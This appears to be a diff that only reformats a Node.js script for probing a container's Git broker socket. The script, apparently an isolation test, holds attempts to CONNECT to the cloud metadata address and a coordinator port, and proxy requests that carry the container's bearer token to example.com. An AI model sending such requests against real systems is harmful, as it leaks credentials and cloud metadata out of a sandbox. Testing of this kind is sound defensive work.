@@ -1,5 +1,6 @@
-// Git over the broker's socket, as any program in the container can have it: a loopback port that leads to the socket, and raw requests.
-// `node ports.mjs run <command>`  runs a shell command with $REPO, $TOKEN set      `node ports.mjs raw <other task> <sha>`  raw requests
+// Git over the broker's socket, as any program in the container can have it: a loopback port that
+// leads to the socket, and raw requests. `node ports.mjs run <command>` runs a shell command with
+// $REPO, $TOKEN set `node ports.mjs raw <other task> <sha>` raw requests
 import { spawn } from "node:child_process";
 import { connect, createServer } from "node:net";
 import { bytes, call, say, SOCKET, token } from "./broker.mjs";
@@ -31,7 +32,10 @@ async function raw(other, sha) {
       headers: { "content-type": "application/x-git-receive-pack-request", ...headers },
     });
   const upload = (body) =>
-    call("POST", "/git/repo.git/git-upload-pack", { body, headers: { "content-type": "application/x-git-upload-pack-request" } });
+    call("POST", "/git/repo.git/git-upload-pack", {
+      body,
+      headers: { "content-type": "application/x-git-upload-pack-request" },
+    });
   const refs = "info/refs?service=git-upload-pack";
   const shallow = pkt(`shallow ${sha}\n`);
   const tries = {
@@ -60,7 +64,9 @@ async function raw(other, sha) {
     "CONNECT to an address": () => call("CONNECT", "169.254.169.254:80"),
     "CONNECT to the coordinator": () => call("CONNECT", "127.0.0.1:7080"),
     "a proxy's request": () =>
-      bytes(`GET http://example.com/ HTTP/1.1\r\nhost: example.com\r\nauthorization: Bearer ${token()}\r\nconnection: close\r\n\r\n`),
+      bytes(
+        `GET http://example.com/ HTTP/1.1\r\nhost: example.com\r\nauthorization: Bearer ${token()}\r\nconnection: close\r\n\r\n`,
+      ),
     "a proxy's request with proxy authorization": () =>
       bytes(
         `GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\nhost: x\r\nproxy-authorization: Bearer ${token()}\r\nauthorization: Bearer ${token()}\r\nconnection: close\r\n\r\n`,
